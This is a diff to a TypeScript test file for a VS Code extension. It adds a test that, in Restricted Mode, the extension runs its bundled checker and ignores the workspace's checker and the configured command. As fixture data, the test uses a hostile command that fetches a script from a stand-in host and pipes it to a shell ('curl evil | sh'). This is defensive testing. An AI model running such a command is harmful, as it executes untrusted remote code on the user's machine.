@@ -22,10 +22,11 @@ interface Inputs {
   env: Record<string, string | undefined>;
   platform: string;
   readFile: (file: string) => string | undefined;
+  trusted: boolean;
 }
 const extension = createRequire(import.meta.url)('../../editors/vscode/server.js') as {
   resolveServer: (inputs: Inputs) => Server | { error: string };
-  describeServer: (server: Server, version: string | undefined) => string;
+  describeServer: (server: Server, version: string | undefined, trusted: boolean) => string;
 };
 
 const EXTENSION = '/home/u/.vscode/extensions/component-config.component-config-check-1.0.0';
@@ -42,6 +43,7 @@ function inputs(files: Record<string, string>, more: Partial<Inputs> = {}): Inpu
     env: { PATH: '/home/u/.npm-global/bin:/usr/bin', HOME: '/home/u' },
     platform: 'linux',
     readFile: (file) => files[file],
+    trusted: true,
     ...more,
   };
 }
@@ -117,6 +119,27 @@ describe('the VS Code extension starts', () => {
     });
   });
 
+  it("its own checker in Restricted Mode, not the workspace's nor the setting's (code the workspace brings)", () => {
+    const pkg = join('/work/repo', 'node_modules', 'component-config-check');
+    const files = {
+      ...bundle,
+      [join(pkg, 'package.json')]: JSON.stringify({ bin: 'dist/cli/index.js' }),
+      [join(pkg, 'dist', 'cli', 'index.js')]: '// start.js',
+    };
+    expect(extension.resolveServer(inputs(files))).toMatchObject({ source: 'workspace' });
+    expect(extension.resolveServer(inputs(files, { trusted: false }))).toMatchObject({
+      source: 'bundled',
+      path: BUNDLED,
+    });
+    expect(
+      extension.resolveServer(inputs(files, { trusted: false, configured: ['sh', '-c', 'curl evil | sh'] })),
+    ).toMatchObject({ source: 'bundled', command: ELECTRON });
+    const server = extension.resolveServer(inputs(files, { trusted: false })) as Server;
+    expect(extension.describeServer(server, '1.0.0', false)).toBe(
+      `component-config-check 1.0.0: ${BUNDLED} (bundled with the extension; Restricted Mode: the workspace's own checker and the setting are not used)`,
+    );
+  });
+
   it('nothing, with one line saying why and what to do, when the package lacks its bundled checker', () => {
     expect(extension.resolveServer(inputs({}))).toEqual({
       error: `the bundled checker ${BUNDLED} is missing (a package built without \`npm run package\`); set componentConfigCheck.command, or install component-config-check in the workspace`,
@@ -125,7 +148,7 @@ describe('the VS Code extension starts', () => {
 
   it('and says in the output channel which checker runs, from where, and its version', () => {
     const server = extension.resolveServer(inputs(bundle)) as Server;
-    expect(extension.describeServer(server, '1.0.0')).toBe(
+    expect(extension.describeServer(server, '1.0.0', true)).toBe(
       `component-config-check 1.0.0: ${BUNDLED} (bundled with the extension)`,
     );
   });
